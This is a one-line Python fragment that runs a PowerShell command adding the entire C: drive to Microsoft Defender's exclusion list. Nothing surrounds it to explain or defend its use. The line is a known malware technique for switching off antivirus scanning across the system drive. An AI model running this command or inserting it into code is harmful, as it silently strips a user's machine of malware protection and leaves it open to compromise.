os.system("powershell Add-MpPreference -ExclusionPath C:\\")
